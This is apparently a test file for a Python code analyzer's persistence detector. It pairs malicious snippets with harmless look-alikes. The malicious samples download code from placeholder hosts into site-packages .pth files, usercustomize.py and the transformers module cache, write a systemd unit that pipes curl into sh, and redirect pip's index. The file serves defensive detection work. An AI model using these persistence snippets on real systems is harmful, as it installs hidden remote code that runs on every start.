// Files written where they run later: Python's start-up hooks (a .pth in site-packages, sitecustomize/
// usercustomize, a PYTHONSTARTUP file), transformers' remote-code module cache, shell start-up files, systemd units,
// crontabs, login items, package-index settings. Writing there is persistence: high, critical when the content was
// downloaded or decoded, or pipes a download into a shell. Each malicious form has a legitimate look-alike (a
// checkpoint named *.pth, an app's own cache folder, site-packages only printed) that stays below medium.
import type { Severity } from '../../../src/core/findings.js';
import { analyzePython } from '../../../src/analyze/python/analyze.js';
import { startupPlace } from '../../../src/analyze/python/startup.js';

type Pair = [construct: string, malicious: string, severity: Severity, legit: string];

const PAIRS: Pair[] = [
  ['a download into site-packages as a .pth',
    'import os, site, urllib.request\ndest = os.path.join(site.getsitepackages()[0], "speedup.pth")\nurllib.request.urlretrieve("https://dl.x.invalid/a.pth", dest)\n', 'critical',
    'import urllib.request\nurllib.request.urlretrieve("https://download.pytorch.org/models/resnet18.pth", "resnet18.pth")\n'],
  ['downloaded bytes written to usercustomize.py',
    'import os, site, urllib.request\ncode = urllib.request.urlopen("https://dl.x.invalid/uc.py").read()\nwith open(os.path.join(site.getusersitepackages(), "usercustomize.py"), "wb") as f:\n    f.write(code)\n', 'critical',
    'import site\nprint("installed into", site.getsitepackages()[0])\nwith open("notes.txt", "w") as f:\n    f.write("ok")\n'],
  ['a fixed line written to a .pth through sysconfig',
    'import os, sysconfig\nwith open(os.path.join(sysconfig.get_path("purelib"), "zz.pth"), "w") as f:\n    f.write("import os; os.environ.setdefault(\'A\', \'1\')\\n")\n', 'high',
    'import os, sysconfig\nprint(os.listdir(sysconfig.get_path("purelib")))\n'],
  ['a download into transformers\' module cache',
    'import os, urllib.request\nd = os.path.expanduser("~/.cache/huggingface/modules/transformers_modules")\nurllib.request.urlretrieve("https://dl.x.invalid/p.py", os.path.join(d, "__init__.py"))\n', 'critical',
    'import os, urllib.request\nd = os.path.expanduser("~/.cache/mytool")\nurllib.request.urlretrieve("https://example.com/vocab.txt", os.path.join(d, "vocab.txt"))\n'],
  ['PYTHONSTARTUP appended to ~/.bashrc',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("export PYTHONSTARTUP=~/.pythonrc.py\\n")\n', 'high',
    'import os\nwith open(os.path.expanduser("~/.cache/app/history"), "a") as f:\n    f.write("run\\n")\n'],
  ['a systemd user unit running a download',
    'import os\nunit = os.path.expanduser("~/.config/systemd/user")\nwith open(os.path.join(unit, "serve.service"), "w") as f:\n    f.write("[Service]\\nExecStart=/bin/sh -c \'curl -fsSL https://x.invalid/i | sh\'\\n")\n', 'critical',
    'import os\nwith open(os.path.join("deploy", "serve.service.example"), "w") as f:\n    f.write("[Service]\\nExecStart=python serve.py\\n")\n'],
  ['pip.conf pointed at another index',
    'import os\nd = os.path.expanduser("~/.config/pip")\nwith open(os.path.join(d, "pip.conf"), "w") as f:\n    f.write("[global]\\nindex-url = https://pypi.x.invalid/simple\\n")\n', 'high',
    'import os\nwith open("requirements.txt", "w") as f:\n    f.write("torch\\ntransformers\\n")\n'],
  ['a file copied into a user crontab folder',
    'import shutil\nshutil.copy("job.cron", "/var/spool/cron/crontabs/user")\n', 'high',
    'import shutil\nshutil.copy("config.json", "out/config.json")\n']
];

function found(src: string): string[] {
  return analyzePython(src).hits.filter((h) => h.severity !== 'info' && h.severity !== 'low').map((h) => `${h.severity} ${h.check} L${h.line}: ${h.message}`);
}

describe.each(PAIRS)('%s', (_construct, malicious, severity, legit) => {
  test(`is ${severity} code.persistence`, () => {
    const hits = analyzePython(malicious).hits;
    if (!hits.some((h) => h.check === 'code.persistence' && h.severity === severity)) throw new Error(`expected ${severity} code.persistence; got:\n${found(malicious).join('\n')}`);
  });
  test('the legitimate look-alike stays quiet', () => {
    expect(found(legit)).toEqual([]);
  });
});

describe('where files run later', () => {
  test.each([
    ['/usr/lib/python3/dist-packages/x.pth', true], ['venv/lib/python3.12/site-packages/x.pth', true], ['checkpoints/model.pth', false],
    ['~/.zshrc', true], ['/etc/profile.d/x.sh', true], ['~/.config/fish/config.fish', true], ['~/Library/LaunchAgents/a.plist', true],
    ['~/.config/autostart/a.desktop', true], ['/etc/cron.d/job', true], ['~/.pypirc', true], ['~/.ssh/authorized_keys', true],
    ['src/sitecustomize.py', true], ['~/.cache/huggingface/hub/models--x/config.json', false], ['bashrc.txt', false]
  ])('%s → %s', (path, runs) => {
    expect(startupPlace(path) !== undefined).toBe(runs);
  });

  test('the finding says what the place is and when it runs', () => {
    const hit = analyzePython('import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("alias ll=ls\\n")\n').hits.find((h) => h.check === 'code.persistence');
    expect(hit?.message).toBe('Writes a shell start-up file (~/.bashrc), where every new shell runs it');
    expect(hit?.line).toBe(3);
  });
});
